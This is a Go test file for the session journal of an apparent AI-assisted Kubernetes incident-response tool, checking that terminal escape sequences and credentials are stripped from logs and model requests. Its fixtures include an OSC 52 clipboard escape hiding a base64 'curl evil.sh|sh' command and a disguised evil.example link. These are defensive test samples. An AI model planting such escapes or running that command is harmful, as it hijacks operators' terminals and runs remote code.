package session

import (
	"bufio"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/kuberesponder/kuberesponder/kube"
	"github.com/kuberesponder/kuberesponder/llm"
	"github.com/kuberesponder/kuberesponder/llm/llmtest/scripted"
)

// plants are the control sequences a hostile model, cluster or paste could
// plant in text the session journals, shows and exports.
var plants = map[string]string{
	"sgr red":      "\x1b[31m",
	"osc 52 write": "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
	"osc 8 link":   "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\",
	"bel":          "\a",
	"c1 csi":       "\u009b2J",
	"bidi":         "\u202e",
}

// controlIn returns the first control character, C1 control or
// bidirectional override in s, or "" when there is none.
func controlIn(s string) string {
	for _, r := range s {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20 || r >= 0x7f && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return string(r)
		}
	}
	return ""
}

// stringsOf returns every string held by a decoded JSON value.
func stringsOf(v any) []string {
	switch v := v.(type) {
	case string:
		return []string{v}
	case []any:
		var out []string
		for _, x := range v {
			out = append(out, stringsOf(x)...)
		}
		return out
	case map[string]any:
		var out []string
		for k, x := range v {
			out = append(append(out, k), stringsOf(x)...)
		}
		return out
	}
	return nil
}

// journalStrings decodes every line of dir's journal and returns its strings.
func journalStrings(t *testing.T, dir string) []string {
	t.Helper()
	f, err := os.Open(filepath.Join(dir, JournalFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var v any
		if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
			t.Fatalf("journal line %q: %v", sc.Text(), err)
		}
		out = append(out, stringsOf(v)...)
	}
	return out
}

// TestControlSequencesNeverReachTheJournal plants each sequence in every
// text the session takes from outside (model text, proposed commands,
// refused ones, tool names and call ids, reasons, deny reasons, notes,
// operator messages, tool output and errors) and finds none in the
// journal, the output files or the next model request.
func TestControlSequencesNeverReachTheJournal(t *testing.T) {
	for name, p := range plants {
		t.Run(name, func(t *testing.T) {
			s, _ := startSession(t, Options{})
			bad := llm.ToolCall{ID: "c9" + p, Name: "kube" + p + "ctl", Arguments: `{"command":"get pods"}`}
			step, err := s.ModelReplied(calls("Look "+p+"here.",
				kc("c1", "get pods "+p+"-n shop", "refused"+p),
				kc("c2", "get pods -n shop", "list"+p+" pods"),
				bad))
			if err != nil {
				t.Fatal(err)
			}
			if step.Kind != StepApprove || step.CallID != "c2" {
				t.Fatalf("step %+v", step)
			}
			if _, err := s.Deny("c2", "not now"+p); err != nil {
				t.Fatal(err)
			}
			if err := s.Note("note " + p + "from the operator"); err != nil {
				t.Fatal(err)
			}
			if _, err := s.Operator("look at " + p + "events"); err != nil {
				t.Fatal(err)
			}
			step, _ = s.ModelReplied(calls("", kc("c3", "get events -n shop", "events")))
			step, _ = s.Approve(step.CallID, false)
			out := "LAST SEEN   REASON\n5m " + p + "FailedScheduling\n"
			res := kube.Result{Output: out, ModelView: out, Summary: "1 line" + p}
			step, err = s.ActionDone(step.CallID, res, errors.New("partly failed "+p))
			if err != nil {
				t.Fatal(err)
			}
			for _, v := range journalStrings(t, s.Dir()) {
				if c := controlIn(v); c != "" {
					t.Errorf("journal holds %q in %q", c, v)
				}
			}
			for _, e := range s.Events() {
				if path := s.OutputPath(e); path != "" {
					b, _ := os.ReadFile(path)
					if c := controlIn(string(b)); c != "" {
						t.Errorf("output file %s holds %q", e.Output, c)
					}
				}
			}
			if step.Kind != StepModel {
				t.Fatalf("after the result: %v", step.Kind)
			}
			b, _ := json.Marshal(step.Request)
			var v any
			json.Unmarshal(b, &v)
			for _, str := range stringsOf(v) {
				if c := controlIn(str); c != "" {
					t.Errorf("the model request holds %q in %q", c, str)
				}
			}
			if rs := statuses(s); !reflect.DeepEqual(rs, []Status{Refused, Refused, DeniedCall, Failed}) {
				t.Errorf("statuses %v", rs)
			}
		})
	}
}

// TestStartEventIsRedacted: the server URL's password and any token never
// reach the journal or the system prompt; names stay readable.
func TestStartEventIsRedacted(t *testing.T) {
	tests := []struct {
		name       string
		meta       Meta
		gone, kept []string
	}{
		{"password in the server url",
			Meta{Server: "https://admin:hunter2@10.0.0.1:6443", Context: "admin@prod", User: "admin", Cluster: "prod"},
			[]string{"hunter2"}, []string{"admin@prod", "10.0.0.1:6443", `"user":"admin"`, `"cluster":"prod"`}},
		{"token in the server url",
			Meta{Server: "https://10.0.0.1:6443/?access_token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJvbmNhbGwifQ.c2lnbmF0dXJlMTIz", Context: "prod"},
			[]string{"eyJzdWIiOiJvbmNhbGwifQ"}, []string{"10.0.0.1:6443", `"context":"prod"`}},
		{"names with at signs and dashes",
			Meta{Server: "https://api.prod.example:443", Context: "oncall@prod-eu-1", User: "system:serviceaccount:ops:responder"},
			nil, []string{"oncall@prod-eu-1", "system:serviceaccount:ops:responder", "https://api.prod.example:443"}},
		{"escapes in the context name",
			Meta{Context: "prod\x1b]0;owned\a-eu", User: "on\u202ecall"},
			[]string{"owned"}, []string{"prod-eu"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.meta.Model, tt.meta.Lang = "test-model", "en"
			s, err := New(filepath.Join(t.TempDir(), "s1"), tt.meta, Options{Now: newClock().Now})
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			s.Report(FirstResponse{Markdown: seedReport, Title: "Pending"})
			step, _ := s.Investigate()
			b, _ := os.ReadFile(filepath.Join(s.Dir(), JournalFile))
			journal := string(b)
			sys := step.Request.Messages[0].Content
			for _, g := range tt.gone {
				if strings.Contains(journal, g) {
					t.Errorf("journal holds %q", g)
				}
				if strings.Contains(sys, g) {
					t.Errorf("system prompt holds %q", g)
				}
			}
			for _, v := range journalStrings(t, s.Dir()) {
				if c := controlIn(v); c != "" {
					t.Errorf("journal holds %q in %q", c, v)
				}
			}
			if c := controlIn(sys); c != "" {
				t.Errorf("system prompt holds %q", c)
			}
			for _, k := range tt.kept {
				if !strings.Contains(journal, k) {
					t.Errorf("journal lost %q:\n%s", k, journal)
				}
			}
		})
	}
}

// TestIDsAndToolNamesAreJournaledClean: a call id that is not printable is
// replaced, so the answer still pairs with its call in the next request.
func TestIDsAndToolNamesAreJournaledClean(t *testing.T) {
	s, _ := startSession(t, Options{})
	step, err := s.ModelReplied(calls("", llm.ToolCall{ID: "call\x1b[8m_1", Name: "kubectl",
		Arguments: `{"command":"get pods -n shop","reason":"r"}`}))
	if err != nil {
		t.Fatal(err)
	}
	if controlIn(step.CallID) != "" || !utf8.ValidString(step.CallID) {
		t.Fatalf("call id %q", step.CallID)
	}
	s.Deny(step.CallID, "")
	req := s.Next().Request
	if err := checkAnswered(req.Messages); err != nil {
		t.Error(err)
	}
}

// TestLastRequestIsTheRequestSent drives sessions with a scripted model
// and checks that the request rebuilt from the journal, live and from the
// directory, is exactly the last one the model received.
func TestLastRequestIsTheRequestSent(t *testing.T) {
	tests := []struct {
		name     string
		model    *scripted.Client
		decide   func(Step) Answer
		inFlight bool // the session is waiting for the model: no Drive
		none     bool // no request was made
	}{
		{name: "no request yet", none: true},
		{name: "in flight", inFlight: true},
		{name: "proposal waiting for approval",
			model: scripted.New(calls("Checking.", kc("c1", descPod, "events")))},
		{name: "approved, ran, answered",
			model:  scripted.New(calls("", kc("c1", descPod, "events")), say("Memory is short.")),
			decide: func(Step) Answer { return Answer{Decision: Approved} }},
		{name: "denied with a reason",
			model:  scripted.New(calls("", kc("c1", "get pods -A", "all")), say("ok")),
			decide: func(Step) Answer { return Answer{Decision: Denied, Text: "only shop"} }},
		{name: "model error",
			model: scripted.New().FailAt(0, errors.New("connection reset"))},
		{name: "refused then answered",
			model: scripted.New(calls("", kc("c1", "delete pod web-1 -n shop", "fix")), say("Apply it yourself."))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var s *Session
			if tt.none {
				var err error
				s, err = New(filepath.Join(t.TempDir(), "s1"), Meta{Model: "test-model", Lang: "en"}, Options{})
				if err != nil {
					t.Fatal(err)
				}
				defer s.Close()
				if _, ok := s.LastRequest(); ok {
					t.Error("a request before any was made")
				}
				if _, err := ReadLastRequest(s.Dir(), Options{}); err == nil || !strings.Contains(err.Error(), "has not asked the model") {
					t.Errorf("ReadLastRequest: %v", err)
				}
				return
			}
			s, step := startSession(t, Options{})
			want := step.Request
			if !tt.inFlight {
				Drive(t.Context(), s, tt.model, &fakeRunner{}, tt.decide)
				want = tt.model.Requests()[len(tt.model.Requests())-1]
			}
			got, ok := s.LastRequest()
			if !ok || !reflect.DeepEqual(got, want) {
				t.Fatalf("LastRequest = %d messages, want %d:\n%s\nwant:\n%s", len(got.Messages), len(want.Messages), FormatRequest(got), FormatRequest(want))
			}
			s.Close()
			got, err := ReadLastRequest(s.Dir(), Options{})
			if err != nil || !reflect.DeepEqual(got, want) {
				t.Fatalf("ReadLastRequest = %v:\n%s\nwant:\n%s", err, FormatRequest(got), FormatRequest(want))
			}
		})
	}
}

func TestFormatRequest(t *testing.T) {
	req := llm.Request{Model: "m", Messages: []llm.Message{
		{Role: llm.System, Content: "You help."},
		{Role: llm.Assistant, Content: "Look\x1b[31m.", ToolCalls: []llm.ToolCall{{ID: "c1", Name: "kubectl", Arguments: `{"command":"get pods"}`}}},
		{Role: llm.Tool, ToolCallID: "c1", Content: "web-1\u202e 1/1"},
	}}
	got := FormatRequest(req)
	for _, want := range []string{"── 1 · system ──\nYou help.\n", "── 2 · assistant ──\nLook\\u001b[31m.\n→ tool call c1: kubectl {\"command\":\"get pods\"}\n",
		"── 3 · tool · answers c1 ──\nweb-1\\u202e 1/1\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("FormatRequest lacks %q:\n%s", want, got)
		}
	}
	if c := controlIn(got); c != "" {
		t.Errorf("FormatRequest holds %q", c)
	}
}
